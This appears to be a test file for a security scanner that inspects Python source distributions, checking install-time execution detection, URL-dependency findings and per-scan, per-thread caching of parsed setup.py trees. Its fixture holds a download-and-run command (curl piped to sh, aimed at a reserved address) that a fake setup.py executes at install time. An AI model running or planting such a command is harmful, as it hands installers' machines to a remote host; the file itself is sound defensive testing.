"""setup.py is parsed once per scan for the run-roles and the requirements passes: both still
see it whole, each scan sees its own setup.py, and no tree outlives its scan. Reserved
addresses only."""

from __future__ import annotations

import threading

from app.core.archive import open_artifact
from app.core.capabilities import setuptree
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist

PAYLOAD = b"import os\nos.system('curl http://198.51.100.7/s | sh')\n"


def setup_py(dependency: str) -> bytes:
    return (
        "from setuptools import setup\n"
        'exec(open("tools/build_helper.py").read())\n'
        f'setup(name="twopass", install_requires=["{dependency}"])\n'
    ).encode()


def scan_sdist(folder, dependency: str):
    folder.mkdir()
    files = {"setup.py": setup_py(dependency), "tools/build_helper.py": PAYLOAD}
    return scan_artifact(open_artifact(make_sdist(folder, name="twopass", files=files)))


def test_one_setup_py_tree_serves_the_run_roles_and_the_requirements(tmp_path):
    result = scan_sdist(tmp_path / "a", "helper @ http://203.0.113.9/helper-1.0.tar.gz")
    helper = [h for h in result.findings if h.path == "tools/build_helper.py"]
    assert "install" in {h.place for h in helper}  # executed by setup.py: install time
    deps = [h for h in result.findings if h.rule == "meta.url_dep_endpoint"]
    assert deps and deps[0].path == "setup.py" and "203.0.113.9" in deps[0].match


def test_each_scan_reads_its_own_setup_py_and_forgets_it(tmp_path):
    first = scan_sdist(tmp_path / "a", "helper @ http://203.0.113.9/helper-1.0.tar.gz")
    second = scan_sdist(tmp_path / "b", "helper @ http://192.0.2.44/helper-2.0.tar.gz")
    assert any("203.0.113.9" in h.match for h in first.findings)
    matches = [h.match for h in second.findings if h.rule == "meta.url_dep_endpoint"]
    assert matches and all("192.0.2.44" in m for m in matches)
    assert getattr(setuptree._memo, "last", None) is None  # no tree kept after the scan


def test_threads_do_not_share_a_setup_py_tree():
    """The app scans on several threads: one thread's setup.py is never another's."""
    mine = setuptree.setup_nodes("x = 1\n")
    seen: list = []
    other = threading.Thread(target=lambda: seen.append(setuptree.setup_nodes("y = 2\n")))
    other.start()
    other.join()
    assert mine is not None and seen[0] is not None
    assert {type(n).__name__ for n in seen[0]} >= {"Module", "Assign", "Constant"}
    assert [n.id for n in seen[0] if type(n).__name__ == "Name"] == ["y"]
    assert setuptree.setup_nodes("x = 1\n") is mine  # this thread's entry is untouched
    setuptree.forget()


def test_a_large_setup_py_is_not_kept_between_the_passes():
    """Its tree would live through the whole per-file pass beside the analyser's own."""
    big = "X = 1\n" * (setuptree.MAX_REMEMBERED_CHARS // 6 + 1)
    nodes = setuptree.setup_nodes(big)
    assert nodes is not None and len(nodes) > 100_000
    assert getattr(setuptree._memo, "last", None) is None or setuptree._memo.last[0] is not big
    small = setuptree.setup_nodes("x = 1\n")
    assert setuptree.setup_nodes("x = 1\n") is small
    setuptree.forget()
